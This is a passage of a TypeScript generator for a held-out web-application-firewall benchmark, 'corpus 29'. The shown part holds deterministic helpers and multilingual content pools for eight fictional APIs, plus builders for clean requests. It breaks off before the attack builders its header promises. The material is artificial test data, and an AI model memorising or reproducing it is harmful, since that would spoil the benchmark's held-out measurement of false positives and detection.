/* biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal ${...} text, not templates */
/**
 * Held-out WAF corpus 29: realistic JSON-API traffic used to measure the WAF's false-positive rate (clean
 * requests) and detection rate (attacks). It was written blind: its author did not read the WAF, its rules,
 * its tests, its docs or any other corpus file, only the CorpusRequest record type.
 *
 * Domains: a cloud cost-management / FinOps dashboard (tags, budgets, anomaly notes), a wedding-photography
 * proofing gallery, an industrial safety inspection app (checklists, hazard notes, photos), a crowdfunding
 * platform for indie games (pledge tiers, devlogs), a university library interlibrary-loan system, a courier
 * dispatch chat for restaurants, a home-insurance claims adjuster workflow, and a localization
 * string-management tool (ICU message format, plurals, placeholders such as {count}, %s, %1$d, {{name}}).
 *
 * Generation: a self-contained mulberry32 PRNG with a fixed seed drives every choice, so the output is
 * deterministic. Clean requests are built per kind from hand-written pools of domain content (free text in
 * several languages and scripts, money, units, dates, URLs, markdown, pasted snippets). Attacks are built per
 * family from hand-written working payloads placed where a JSON API carries attacker input: nested fields,
 * arrays, object keys, \u escapes, JSON inside strings, base64 the API decodes, GraphQL variables, query
 * strings and headers. Fields listed in HELDOUT29_EXCLUDE_FIELDS legitimately carry HTML or source code and
 * never carry an attack.
 *
 * Run directly (`node bench/waf/corpus/heldout29.ts`) to write clean-heldout29.json and
 * attacks-heldout29.json next to this file and print counts per kind and family.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Body paths that legitimately hold rich-text HTML or source code; attacks never go there. */
export const HELDOUT29_EXCLUDE_FIELDS: string[] = [
  'body.devlog.contentHtml',
  'body.report.summaryHtml',
  'body.snippet.source',
];

/** mulberry32: tiny deterministic 32-bit PRNG returning floats in [0, 1). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x29c0ffee);

function int(min: number, max: number): number {
  return min + Math.floor(rand() * (max - min + 1));
}

function pick<T>(xs: readonly T[]): T {
  const x = xs[Math.floor(rand() * xs.length)];
  if (x === undefined) throw new Error('pick from empty list');
  return x;
}

function chance(p: number): boolean {
  return rand() < p;
}

function hex(n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(0, 15)];
  return s;
}

function uuid(): string {
  return `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
}

function b64url(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64url');
}

function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}

function isoDate(): string {
  const d = new Date(Date.UTC(2026, int(0, 10), int(1, 28), int(0, 23), int(0, 59), int(0, 59)));
  return d.toISOString();
}

function day(): string {
  return isoDate().slice(0, 10);
}

function money(min: number, max: number): string {
  return (int(min * 100, max * 100) / 100).toFixed(2);
}

/** Encode a query string the way fetch/URLSearchParams-style clients do (RFC 3986 percent-encoding). */
function qs(params: Record<string, string | number | boolean>): string {
  return Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');
}

function formBody(params: Record<string, string>): string {
  return new URLSearchParams(params).toString();
}

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36',
  'okhttp/4.12.0',
  'Dispatchly/3.14.2 (Android 13; SM-A536B)',
  'Dispatchly/3.14.1 (iOS 17.6; iPhone14,5)',
  'SafeWalk-Inspect/2.8.0 (iPad; iPadOS 17.5)',
  'axios/1.7.7',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'curl/8.9.1',
  'Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-costwise/0.14.2',
  'lokal-cli/5.2.0 node/22.11.0 darwin-arm64',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
];

const LANGS = [
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'fr-FR,fr;q=0.9',
  'ja-JP,ja;q=0.9,en;q=0.7',
  'pt-BR,pt;q=0.9,en;q=0.6',
  'pl-PL,pl;q=0.9',
  'uk-UA,uk;q=0.9,ru;q=0.5',
  'es-MX,es;q=0.9',
];

function jwt(): string {
  const header = b64url(JSON.stringify({ alg: pick(['RS256', 'ES256', 'HS256']), typ: 'JWT', kid: hex(8) }));
  const payload = b64url(
    JSON.stringify({
      sub: uuid(),
      iss: pick(['https://auth.costwise.io/', 'https://id.proofbox.photo', 'https://login.lokal.dev']),
      aud: 'api',
      iat: 1780000000 + int(0, 9000000),
      exp: 1790000000 + int(0, 9000000),
      scope: pick(['read write', 'claims:rw', 'ill:patron', 'dispatch', 'strings:edit']),
    }),
  );
  const sig = Buffer.from(hex(64), 'hex').toString('base64url');
  return `${header}.${payload}.${sig}`;
}

function headers(extra: Record<string, string> = {}, accept = 'application/json'): Record<string, string> {
  const h: Record<string, string> = {
    host: 'api.gatehouse.test',
    'user-agent': pick(USER_AGENTS),
    accept,
    'accept-language': pick(LANGS),
  };
  if (chance(0.85)) h.authorization = `Bearer ${jwt()}`;
  if (chance(0.3)) h['x-request-id'] = uuid();
  return { ...h, ...extra };
}

function jsonHeaders(ct = 'application/json', extra: Record<string, string> = {}): Record<string, string> {
  return headers({ 'content-type': ct, ...extra });
}

// ---------------------------------------------------------------------------------------------------------
// Domain content pools
// ---------------------------------------------------------------------------------------------------------

const CLOUD_SERVICES = [
  'AmazonEC2',
  'AmazonS3',
  'AWSLambda',
  'AmazonRDS',
  'Compute Engine',
  'BigQuery',
  'Azure Cosmos DB',
  'CloudFront',
  'NAT Gateway',
];
const COST_TAGS = [
  { key: 'team', value: 'payments-core' },
  { key: 'env', value: 'prod' },
  { key: 'cost-center', value: 'CC-4410' },
  { key: 'owner', value: 'marta.kowalska@northwind.example' },
  { key: 'app', value: 'checkout-api' },
  { key: 'kubernetes.io/cluster/eu-prod-2', value: 'owned' },
  { key: 'project', value: 'Project Ünicorn' },
  { key: 'env', value: 'staging' },
];
const ANOMALY_NOTES = [
  'Spike on 14 Nov is the Black Friday load test; Priya ran it against prod-like data. Expected, not a leak.',
  'NAT gateway egress jumped 340% — someone pointed the nightly backup at the public S3 endpoint instead of the VPC endpoint. Fixed in PR #2214.',
  'Cross-AZ data transfer ~$1,420/mo. Select * from the analytics replica in us-east-1b while app runs in 1a... moving the reader.',
  'Reserved instances expire 2026-12-31; renew 3yr no-upfront for m7g.xlarge (approved by finance, see ticket FIN-882).',
  'Lambda cost doubled after we raised memory to 3008 MB. Duration dropped only 12%, so rollback to 1769 MB.',
  'BigQuery on-demand: one analyst ran a query scanning 48 TB. Set maximum_bytes_billed = 1 TB on the shared project.',
  'Le pic du 3 mars vient du job de réindexation Elasticsearch — à relancer hors heures de bureau.',
  'Kosten für Snapshots sind seit Juni um 18 % gestiegen; Aufbewahrung von 90 auf 30 Tage kürzen?',
  '東京リージョンのEBSスナップショットが残っています。削除予定は来週の金曜日です。',
  "Don't drop the dev cluster yet — QA is still using it until the 2.4 release. Scale nodes to 0 overnight instead.",
  'GPU spend (p4d) is from the ML team fine-tuning run; budget owner @lena approved up to $18k.',
  'Savings plan coverage at 71%. Target 85% by Q2. Exec summary: we are over-provisioned on RDS by ~2 sizes.',
];
const BUDGET_NAMES = [
  'Platform – Prod',
  'Data & ML FY27',
  'Marketing site (CDN)',
  'Sandbox accounts',
  'EU Compliance Region',
  'R&D – Kyiv team',
];

const GALLERY_NAMES = [
  'Anna & Tomás — Villa Balbiano',
  'Chloé + Idris, Marrakech',
  'Sakura & Ken 結婚式',
  "The O'Connor–Nguyen Wedding",
  'Maja i Piotr — Kraków',
  'Lindsay & Rae elopement, Big Sur',
];
const PROOF_COMMENTS = [
  'Can you soften the shadows on her face here? Love the composition otherwise 😍',
  "Please remove the exit sign in the top-left corner if it's not too much work.",
  'This one for the 11x14 print, black & white please.',
  'Mom wants a copy of this one — can we add it to the parents album?',
  'Slightly warmer tone? The dress looks a bit blue compared to #0412.',
  'Favourite!!! ❤️❤️ Can we crop to 4:5 for Instagram?',
  'Bitte das Brautpaar etwas aufhellen, der Himmel darf so bleiben.',
  '¿Podrías quitar el cable del fondo? Gracias!!',
  "Uncle Ray's eyes are closed here; is there another frame from the same burst?",
  "Ce cliché en sépia pour l'album, s'il vous plaît.",
  'このショットを表紙にしたいです。',
  'Not sure about this one... select it for now, we will decide after the album draft.',
];

const HAZARDS = [
  'Guard on conveyor C-3 missing lower bolt; pinch point exposed at roller. Tagged out (LOTO #4471).',
  'Forklift lane markings faded near dock 6, pedestrians cutting across. Repaint + add bollard.',
  'Eye-wash station in bay 2 flow < 0.4 gpm; last flush date on tag is 3 weeks old.',
  'Oil drip under hydraulic press HP-12; absorbent placed, maintenance ticket WO-99812 opened.',
  'Scaffold tag green but toe board missing on level 3 east side. Stopped work until fixed.',
  'Ammonia sensor reading 18 ppm in compressor room (alarm at 25 ppm). Ventilation running; monitor.',
  'Extension cord daisy-chained behind welding bench — remove & install permanent outlet.',
  'Fire extinguisher #F-207 blocked by pallets of cardboard; cleared during inspection.',
  'Gabelstapler ohne gültige Prüfplakette (UVV abgelaufen 08/2026).',
  'Rampa de carga sin barandilla en el lado norte — riesgo de caída de 1,2 m.',
  'Confined space entry permit not posted at tank T-4; attendant present, gas test O2 20.9%, LEL 0%.',
  'Worker on roof without harness tie-off at ~4 m; stopped, toolbox talk given on 100% tie-off.',
];
const CHECKLIST_ITEMS = [
  'Emergency exits clear and illuminated',
  'PPE available: gloves, goggles, hi-vis',
  'MSDS/SDS binder up to date',
  'Machine guards in place and secured',
  'First-aid kit stocked (check expiry dates)',
  'Gas cylinders chained upright',
  'Electrical panels have 36" clearance',
  'Spill kit at chemical store',
];

const GAME_TITLES = [
  'Moss & Meridian',
  'Night Shift at the Ramen Bar',
  'Kite Cartographers',
  'Dungeon Accountant',
  'Żuraw: A Crane Story',
  'Pixel Pilgrims',
];
const TIER_DESCRIPTIONS = [
  'Digital copy on Steam + the OST (24 tracks, FLAC & MP3). Includes your name in the credits.',
  'Everything in Explorer, plus a physical art book (96 pages, A4) shipped worldwide. Shipping charged after campaign.',
  'Design an NPC with us! You get a 30-min call with our writer and the NPC says your catchphrase (within reason 😅).',
  'Early access to the alpha build on Windows/Linux (Steam Deck verified target). Mac build later, sorry!',
  'Limited: 50 available. Signed cartridge-style collector box with a USB stick, enamel pin and postcard.',
  'Kopia cyfrowa + wczesny dostęp do bety. Dziękujemy za wsparcie!',
];
const DEVLOG_TITLES = [
  'Devlog #14: rewriting the pathfinding (again)',
  'We hit 150%! Stretch goal: co-op mode',
  'Why the demo is delayed by two weeks',
  'Art dump: biomes, weather, and a very grumpy goose',
  'Porting to Switch: what we learned about memory budgets',
  'Devlog #15 — save system, and why we drop old saves',
];

const BOOK_TITLES = [
  'The Structure of Scientific Revolutions',
  "Histoire de la folie à l'âge classique",
  'Die Verwandlung (Erstausgabe-Faksimile)',
  'Ὀδύσσεια: A Critical Edition',
  '百年孤独',
  'Proceedings of the 12th Int. Conf. on Machine Learning, vol. 2',
  'Journal of Applied Ecology 58(4): 712–726',
  'Война и мир, том 3',
  'Select Committee on Foreign Affairs: Minutes of Evidence (1923)',
  'Kitāb al-Manāẓir (Book of Optics)',
];
const ILL_NOTES = [
  'Need chapter 7 only (pp. 201–236) for my thesis; a scan is fine if the lending library prefers.',
  'Will not pay more than $15 in lending fees. Not needed after 15 March.',
  'Please request the 2nd edition, not the 3rd — pagination differs and my advisor cites the 2nd.',
  'Article appears to be in the supplement issue; DOI 10.1111/1365-2664.13850.',
  'Microfilm reader required. Can the item be used in-library only? That is OK.',
  'Patron reported the due date slip says "DO NOT RENEW" — lender restriction, please confirm.',
  'Bitte nur die Seiten 45–60 scannen (Urheberrecht: max. 10 % des Werkes).',
  "Besoin de l'édition originale de 1961 pour une comparaison des préfaces.",
];

const RESTAURANTS = [
  'Pho Saigon 2',
  'Trattoria da Nonna Lucia',
  'Burger Barn (Mission St)',
  'Sushi Kōen',
  'Falafel & Co',
  'Taquería El Güero',
  'Curry Leaf Express',
];
const CHAT_MESSAGES = [
  'Order #A4471 ready in 5 min, driver can wait inside by the counter.',
  'Customer says gate code is 2847# — building C, 3rd floor, door on the left.',
  'Running 10 min late, traffic on 5th & Main is insane. Sorry!!',
  'Can you pick up the drinks from the bar side? Kitchen is slammed 🔥',
  'Rider here — restaurant says the order was already picked up by someone else?',
  "Please don't ring the bell, baby sleeping. Leave at door & text.",
  'Allergy note: NO peanuts, customer is severe. Double-bagged & labelled.',
  'Pedido listo, falta la salsa verde — la agrego ya.',
  'Fahrer steht vor dem Laden, Bestellung 8812 bitte rausbringen.',
  'ok 👍',
  'where r u? food getting cold',
  'Drop off at the back entrance, front door locked after 10pm; knock twice.',
  'Tip added $5 for the stairs, thanks for the fast delivery!',
];

const CLAIM_NOTES = [
  'Water damage from burst pipe under kitchen sink; laminate flooring warped across ~14 m². Mitigation company on site 6/3.',
  'Hail damage to roof — 9 hits per 10x10 test square on the south slope, 4 on the north. Recommend full replacement of south slope.',
  'Insured states tree limb fell during storm on 2026-08-17 at approx. 02:30; neighbour confirms. Gutter and fascia damaged.',
  'Pre-existing wear observed on shingles (granule loss) — not storm related. Partial denial letter to follow.',
  'Contents list received: 47 items, including a 65" TV ($1,299.00, receipt attached) and a Dyson vacuum (no receipt).',
  'Mold present behind drywall; policy excludes mold unless resulting from covered peril. Escalating to coverage counsel.',
  "Dégât des eaux provenant de l'appartement du dessus, constat amiable signé par les deux parties.",
  'Schaden durch Leitungswasser im Keller, Trocknungsgeräte seit 5 Tagen im Einsatz.',
  'Fire started in the dryer vent; smoke damage to laundry room & hallway. Fire dept. report #FD-26-0931.',
  'Policyholder wants to "drop" the claim for the fence and only pursue the roof. Confirmed by phone.',
];

const ICU_MESSAGES = [
  '{count, plural, one {# photo selected} other {# photos selected}}',
  'You have {unread, plural, =0 {no new messages} one {one new message} other {# new messages}}',
  '{gender, select, female {She} male {He} other {They}} pledged {amount, number, ::currency/USD}',
  'Hello {{name}}, your order is on the way!',
  'Downloaded %s of %s',
  '%1$d items in %2$s',
  'Due on {due, date, medium} at {due, time, short}',
  '{count, plural, =0 {Keine Einträge} one {# Eintrag} other {# Einträge}}',
  '{count, plural, one {# plik} few {# pliki} many {# plików} other {# pliku}}',
  'Last login: {{ lastLogin | date }} from {{city}}',
  "Don't forget to rate {restaurant}! It's quick.",
  '{n, plural, zero {لا عناصر} one {عنصر واحد} two {عنصران} few {# عناصر} many {# عنصرًا} other {# عنصر}}',
  'Budget "{budgetName}" is at {pct, number, percent} of its monthly limit',
  '<b>{name}</b> left a comment on <i>{photo}</i>',
  '{itemCount, plural, one {Delete # item?} other {Delete # items?}} This cannot be undone.',
];
const LOCALES = ['de-DE', 'fr-FR', 'ja-JP', 'pl-PL', 'pt-BR', 'ar-EG', 'uk-UA', 'zh-Hans', 'es-419', 'ko-KR'];

const PEOPLE = [
  'Marta Kowalska',
  'Jürgen Weiß',
  'Aoife Ní Bhriain',
  'Zoë Dubois',
  'Олена Шевченко',
  '山田 太郎',
  'José Ñúñez',
  "D'Arcy O'Neill",
  'Nguyễn Thị Hoa',
  'Søren Kierkegaard-Larsen',
  'Fatima Al-Sayed',
  'Ravi Subramanian',
];
const EMAILS = [
  'marta.k@northwind.example',
  'j.weiss@brauerei-weiss.de',
  'aoife+proofs@gmail.com',
  'zoe.dubois@orange.fr',
  'claims.desk@acme-mutual.example',
  'ill-office@lib.uni-example.edu',
  'dispatch+ops@dispatchly.io',
  'dev@mossandmeridian.games',
];

function person(): string {
  return pick(PEOPLE);
}

// ---------------------------------------------------------------------------------------------------------
// Clean request builders
// ---------------------------------------------------------------------------------------------------------

const clean: CorpusRequest[] = [];
const attacks: CorpusRequest[] = [];

function addClean(kind: string, method: string, path: string, hdrs: Record<string, string>, body = ''): void {
  clean.push({ id: `h29c${clean.length + 1}`, kind, method, path, headers: hdrs, body });
}

function addAttack(
  family: string,
  technique: string,
  method: string,
  path: string,
  hdrs: Record<string, string>,
  body = '',
): void {
  attacks.push({
    id: `h29a${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers: hdrs,
    body,
  });
}

const restGets: (() => string)[] = [
  () =>
    `/v1/costs?${qs({ from: day(), to: day(), groupBy: pick(['service', 'tag:team', 'account', 'region']), granularity: pick(['DAILY', 'MONTHLY']) })}`,
  () =>
    `/v1/costs/anomalies?${qs({ status: pick(['open', 'acknowledged', 'resolved']), minImpact: money(50, 900), service: pick(CLOUD_SERVICES) })}`,
  () =>
    `/v1/budgets/${uuid()}/forecast?${qs({ horizon: `${int(1, 12)}m`, currency: pick(['USD', 'EUR', 'JPY']) })}`,
  () =>
    `/v1/tags/keys?${qs({ prefix: pick(['team', 'env', 'cost-center', 'kubernetes.io/']), limit: int(10, 200) })}`,
  () =>
    `/v1/costs?${qs({ filter: `tag:${pick(COST_TAGS).key}=${pick(COST_TAGS).value}`, sort: '-amortizedCost' })}`,
  () =>
    `/galleries/${uuid()}/photos?${qs({ page: int(1, 40), perPage: pick([24, 48, 96]), filter: pick(['favorites', 'rejected', 'all', 'comments']) })}`,
  () => `/galleries/${uuid()}?${qs({ include: 'cover,albums', lang: pick(['en', 'fr', 'ja']) })}`,
  () =>
    `/galleries/${encodeURIComponent(pick(GALLERY_NAMES).toLowerCase().replace(/\s+/g, '-'))}/share?${qs({ pin: int(1000, 9999) })}`,
  () =>
    `/inspections?${qs({ site: pick(['Plant 4 – Łódź', 'Dock B', 'Warehouse Süd', 'Línea 3']), status: pick(['draft', 'submitted']), since: day() })}`,
  () =>
    `/inspections/${uuid()}/findings?${qs({ severity: pick(['low', 'medium', 'high', 'critical']), open: true })}`,
  () =>
    `/projects/${pick(['moss-and-meridian', 'dungeon-accountant', 'kite-cartographers'])}/tiers?${qs({ currency: pick(['USD', 'EUR', 'GBP', 'PLN']) })}`,
  () =>
    `/projects/${pick(['pixel-pilgrims', 'zuraw'])}/devlogs?${qs({ cursor: b64url(`{"id":${int(100, 999)}}`), limit: 10 })}`,
  () =>
    `/ill/requests?${qs({ patron: `P${int(100000, 999999)}`, status: pick(['submitted', 'shipped', 'received', 'overdue']), sort: 'neededBy' })}`,
  () =>
    `/ill/catalog/lookup?${qs({ isbn: pick(['978-0-226-45808-3', '9782070295821', '978-4-10-205211-9']), oclc: int(1000000, 99999999) })}`,
  () =>
    `/ill/catalog/lookup?${qs({ title: pick(BOOK_TITLES), author: pick(['Kuhn', 'Foucault', 'Kafka', 'Homer', 'García Márquez', 'Толстой']) })}`,
  () =>
    `/dispatch/orders?${qs({ restaurant: pick(RESTAURANTS), state: pick(['ready', 'picked_up', 'delivered']), since: isoDate() })}`,
  () =>
    `/dispatch/couriers/nearby?${qs({ lat: (52.2 + rand() / 10).toFixed(6), lng: (21.0 + rand() / 10).toFixed(6), radius: '1.5km' })}`,
  () => `/dispatch/chats/${uuid()}/messages?${qs({ before: isoDate(), limit: 50 })}`,
  () =>
    `/claims?${qs({ adjuster: pick(PEOPLE), status: pick(['fnol', 'inspection', 'estimate', 'closed']), peril: pick(['water', 'hail', 'fire', 'theft', 'wind']) })}`,
  () =>
    `/claims/CLM-2026-${int(10000, 99999)}/documents?${qs({ type: pick(['photo', 'estimate', 'receipt', 'police-report']) })}`,
  () =>
    `/l10n/projects/${pick(['dispatchly-app', 'proofbox-web', 'costwise'])}/strings?${qs({ locale: pick(LOCALES), untranslated: chance(0.5), q: pick(['checkout', 'plural', 'welcome']) })}`,
  () =>
    `/l10n/projects/proofbox-web/export?${qs({ locale: pick(LOCALES), format: pick(['xliff', 'json', 'po', 'arb', 'strings']) })}`,
  () =>
    `/l10n/keys/${encodeURIComponent(pick(['gallery.select.count', 'checkout.total_with_tax', 'errors.network.retry']))}/history?limit=20`,
];

function genRestGet(n: number): void {
  for (let i = 0; i < n; i++) addClean('rest-get', 'GET', pick(restGets)(), headers());
}

const restWrites: (() => [string, string, unknown])[] = [
  () => [
    'POST',
    '/v1/budgets',
    {
      name: pick(BUDGET_NAMES),
      amount: { value: money(500, 90000), currency: pick(['USD', 'EUR']) },
      period: 'MONTHLY',
      filters: { tags: [pick(COST_TAGS), pick(COST_TAGS)], services: [pick(CLOUD_SERVICES)] },
      alerts: [
        { threshold: 80, type: 'ACTUAL', notify: [pick(EMAILS)] },
        { threshold: 100, type: 'FORECASTED', notify: ['#finops-alerts'] },
      ],
    },
  ],
  () => [
    'PUT',
    `/v1/costs/anomalies/${uuid()}`,
    {
      status: 'acknowledged',
      rootCause: pick(['expected', 'misconfiguration', 'new workload']),
      note: pick(ANOMALY_NOTES),
    },
  ],
  () => [
    'POST',
    `/galleries/${uuid()}/selections`,
    {
      photoIds: Array.from({ length: int(2, 8) }, () => `IMG_${int(1000, 9999)}.CR3`),
      comment: pick(PROOF_COMMENTS),
      clientName: person(),
    },
  ],
  () => [
    'POST',
    `/inspections/${uuid()}/findings`,
    {
      checklistItem: pick(CHECKLIST_ITEMS),
      hazard: pick(HAZARDS),
      severity: pick(['low', 'medium', 'high']),
      location: { building: pick(['A', 'B', 'Hall 3']), gps: [51.75 + rand(), 19.45 + rand()] },
      correctiveAction: { owner: person(), due: day() },
    },
  ],
  () => [
    'POST',
    `/projects/${pick(['moss-and-meridian', 'pixel-pilgrims'])}/pledges`,
    {
      tierId: `tier_${hex(6)}`,
      amount: Number(money(5, 250)),
      currency: 'USD',
      addOns: ['art-book'],
      shipping: {
        country: pick(['PL', 'DE', 'JP', 'BR', 'US']),
        postalCode: pick(['00-950', '10115', '150-0002', '01310-100']),
      },
      anonymous: chance(0.2),
    },
  ],
  () => [
    'POST',
    '/ill/requests',
    {
      type: pick(['loan', 'copy']),
      citation: { title: pick(BOOK_TITLES), year: int(1850, 2025), pages: `${int(1, 200)}-${int(201, 400)}` },
      neededBy: day(),
      maxCost: { amount: money(0, 40), currency: 'USD' },
      notes: pick(ILL_NOTES),
      patron: { id: `P${int(100000, 999999)}`, email: pick(EMAILS) },
    },
  ],
  () => [
    'POST',
    `/dispatch/chats/${uuid()}/messages`,
    {
      text: pick(CHAT_MESSAGES),
      sender: { role: pick(['restaurant', 'courier', 'ops']), name: person() },
      clientTs: isoDate(),
    },
  ],
  () => [
    'POST',
    '/claims',
    {
      policyNumber: `HO3-${int(1000000, 9999999)}`,
      lossDate: day(),
      peril: pick(['water', 'hail', 'wind', 'fire', 'theft']),
      description: pick(CLAIM_NOTES),
      reserve: { amount: money(1000, 60000), currency: 'USD' },
      contact: { name: person(), phone: `+1-555-${int(100, 999)}-${int(1000, 9999)}` },
    },
  ],
  () => [
    'PUT',
    `/l10n/strings/${uuid()}/translations/${pick(LOCALES)}`,
    {
      source: pick(ICU_MESSAGES),
      target: pick(ICU_MESSAGES),
      status: pick(['draft', 'reviewed']),
      translator: person(),
    },
  ],
];

function genRestWrite(n: number): void {
  for (let i = 0; i < n; i++) {
    const [method, path, body] = pick(restWrites)();
    addClean('rest-write', method, path, jsonHeaders(), JSON.stringify(body));
  }
}

function genMergePatch(n: number): void {
  const makers: (() => [string, unknown])[] = [
    () => [
      `/v1/budgets/${uuid()}`,
      {
        amount: { value: money(1000, 50000) },
        alerts: null,
        description: 'Raised after Q3 review; see FIN-901.',
      },
    ],
    () => [
      `/galleries/${uuid()}`,
      {
        title: pick(GALLERY_NAMES),
        expiresAt: isoDate(),
        watermark: { text: '© Lumen & Lace Photography', opacity: 0.35 },
        downloadPin: null,
      },
    ],
    () => [
      `/inspections/${uuid()}`,
      {
        status: 'submitted',
        signature: { name: person(), signedAt: isoDate() },
        weather: 'Rain, 8 °C, wind 25 km/h',
      },
    ],
    () => [
      `/claims/CLM-2026-${int(10000, 99999)}`,
      { status: 'estimate', adjusterNotes: pick(CLAIM_NOTES), reserve: { amount: money(500, 30000) } },
    ],
    () => [
      `/l10n/strings/${uuid()}`,
      { context: 'Shown on the cart badge; keep under 20 chars.', maxLength: 20, tags: ['mobile', 'v3.2'] },
    ],
    () => [
      `/projects/pixel-pilgrims/tiers/tier_${hex(6)}`,
      { limit: int(50, 500), description: pick(TIER_DESCRIPTIONS), estimatedDelivery: '2027-06' },
    ],
    () => [`/ill/requests/${uuid()}`, { neededBy: day(), notes: pick(ILL_NOTES) }],
  ];
  for (let i = 0; i < n; i++) {
    const [path, body] = pick(makers)();
    addClean('merge-patch', 'PATCH', path, jsonHeaders('application/merge-patch+json'), JSON.stringify(body));
  }
}

function genJsonPatch(n: number): void {
  const makers: (() => [string, unknown[]])[] = [
    () => [
      `/v1/budgets/${uuid()}`,
      [
        { op: 'replace', path: '/amount/value', value: Number(money(1000, 9000)) },
        { op: 'add', path: '/alerts/-', value: { threshold: 90, type: 'ACTUAL' } },
      ],
    ],
    () => [
      `/v1/resources/${encodeURIComponent(`arn:aws:ec2:eu-west-1:${int(100000000000, 999999999999)}:instance/i-${hex(17)}`)}/tags`,
      [
        { op: 'add', path: '/tags/cost-center', value: 'CC-4410' },
        { op: 'remove', path: '/tags/temp' },
      ],
    ],
    () => [
      `/v1/resources/r-${hex(10)}/tags`,
      [
        { op: 'add', path: '/tags/kubernetes.io~1cluster~1eu-prod-2', value: 'owned' },
        { op: 'test', path: '/tags/env', value: 'prod' },
      ],
    ],
    () => [
      `/inspections/${uuid()}/checklist`,
      [
        { op: 'replace', path: `/items/${int(0, 7)}/status`, value: pick(['pass', 'fail', 'n/a']) },
        { op: 'add', path: `/items/${int(0, 7)}/comment`, value: pick(HAZARDS) },
      ],
    ],
    () => [
      `/galleries/${uuid()}/albums/main`,
      [
        { op: 'move', from: `/photos/${int(0, 30)}`, path: `/photos/${int(0, 30)}` },
        { op: 'copy', from: '/photos/0', path: '/cover' },
      ],
    ],
    () => [
      `/l10n/strings/${uuid()}`,
      [
        { op: 'replace', path: `/translations/${pick(LOCALES)}`, value: pick(ICU_MESSAGES) },
        { op: 'remove', path: '/flags/needsReview' },
      ],
    ],
    () => [
      `/claims/CLM-2026-${int(10000, 99999)}/line-items`,
      [
        { op: 'replace', path: '/3/quantity', value: int(1, 40) },
        { op: 'replace', path: '/3/unit', value: 'SF' },
        {
          op: 'add',
          path: '/-',
          value: {
            code: 'RFG300',
            desc: 'Remove & replace 3-tab shingles',
            qty: 24.33,
            unit: 'SQ',
            price: 287.5,
          },
        },
      ],
    ],
  ];
  for (let i = 0; i < n; i++) {
    const [path, body] = pick(makers)();
    addClean('json-patch', 'PATCH', path, jsonHeaders('application/json-patch+json'), JSON.stringify(body));
  }
}

function genJsonApi(n: number): void {
  const ct = 'application/vnd.api+json';
  for (let i = 0; i < n; i++) {
    const r = int(0, 3);
    if (r === 0) {
      addClean(
        'jsonapi',
        'GET',
        `/api/ill-requests?${qs({ 'filter[status]': pick(['shipped', 'overdue']), 'page[size]': 25, include: 'patron,lender', 'fields[ill-requests]': 'title,neededBy,status' })}`,
        headers({}, ct),
      );
    } else if (r === 1) {
      const body = {
        data: {
          type: 'pledges',
          attributes: {
            amount: Number(money(10, 300)),
            currency: 'EUR',
            message: pick([
              'Good luck with the launch! 🚀',
              'Loved the demo at PAX — take my money.',
              'Für die Ente. Immer für die Ente.',
              'Ganbatte! 頑張って!',
            ]),
          },
          relationships: {
            tier: { data: { type: 'tiers', id: `tier_${hex(6)}` } },
            project: { data: { type: 'projects', id: pick(GAME_TITLES) } },
          },
        },
      };
      addClean('jsonapi', 'POST', '/api/pledges', headers({ 'content-type': ct }, ct), JSON.stringify(body));
    } else if (r === 2) {
      const body = {
        data: {
          type: 'claim-notes',
          id: uuid(),
          attributes: { text: pick(CLAIM_NOTES), visibility: pick(['internal', 'insured']) },
        },
      };
      addClean(
        'jsonapi',
        'PATCH',
        `/api/claim-notes/${body.data.id}`,
        headers({ 'content-type': ct }, ct),
        JSON.stringify(body),
      );
    } else {
      const body = {
        data: [
          { type: 'photos', id: `IMG_${int(1000, 9999)}` },
          { type: 'photos', id: `IMG_${int(1000, 9999)}` },
        ],
        meta: { reason: pick(PROOF_COMMENTS) },
      };
      addClean(
        'jsonapi',
        'POST',
        `/api/galleries/${uuid()}/relationships/favorites`,
        headers({ 'content-type': ct }, ct),
        JSON.stringify(body),
      );
    }
  }
}

const GQL_QUERIES: [string, () => Record<string, unknown>][] = [
  [
    'query CostBreakdown($from: Date!, $to: Date!, $groupBy: [Dimension!]) {\n  costs(from: $from, to: $to, groupBy: $groupBy) {\n    total { amount currency }\n    groups { key amount trend }\n  }\n}',
    () => ({ from: day(), to: day(), groupBy: ['SERVICE', 'TAG_TEAM'] }),
  ],
  [
